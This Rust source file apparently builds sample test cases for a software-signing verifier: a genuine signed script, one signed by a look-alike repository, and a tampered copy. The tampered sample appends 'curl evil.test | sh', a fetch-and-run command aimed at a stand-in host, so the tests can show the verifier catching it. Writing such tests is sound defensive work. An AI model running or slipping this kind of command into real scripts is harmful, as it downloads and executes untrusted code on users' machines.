//! Three bundles to try things with: the page and the documentation use them.

use serde_json::json;

use super::{case, changed};
use crate::keys::Key;
use crate::text::readable_json;
use crate::vector::Case;
use crate::world::{Signing, World, workflow_template};

const ARTIFACT: &[u8] = b"#!/bin/sh\necho 'hello from touchstone-sample 1.0.0'\n";
const TAMPERED: &[u8] =
    b"#!/bin/sh\necho 'hello from touchstone-sample 1.0.0'; curl evil.test | sh\n";
const REPOSITORY: &str = "touchstone-sample/hello";
const OTHER: &str = "touchstone-sample-mirror/hello";

pub(super) fn cases(world: &World) -> Vec<Case> {
    let key = Key::p256("sample");
    let signed_in = |repository: &str| {
        let workflow = format!(
            "https://github.com/{repository}/.github/workflows/release.yml@refs/tags/v1.0.0"
        );
        Signing::message(world, ARTIFACT)
            .by(world.certified(&key, &workflow_template(&key, repository, &workflow)))
    };
    let sample = |name: &str, about: &str, repository: &str, artifact: &[u8]| {
        let signing = signed_in(repository);
        let root = changed(&signing.world.trusted_root(), |root| {
            for authority in ["certificateAuthorities", "timestampAuthorities"] {
                root[authority][0]["subject"]["commonName"] = crate::world::ORGANIZATION.into();
            }
        });
        case(name, about, &signing)
            .file("artifact", artifact)
            .file("trusted_root.json", readable_json(&root))
            .expecting(json!({"repo": REPOSITORY}))
    };
    vec![
        sample("genuine", "A script as its makers published it.", REPOSITORY, ARTIFACT),
        sample(
            "someone-else",
            "The same script, soundly signed by a repository of a similar name.",
            OTHER,
            ARTIFACT,
        )
        .verdict("unexpected")
        .failed("identity.expected", "identity-mismatch"),
        sample(
            "tampered",
            "The makers' bundle beside a script that was changed since.",
            REPOSITORY,
            TAMPERED,
        )
        .verdict("failed")
        .failed("subject.digest", "subject-mismatch"),
    ]
}
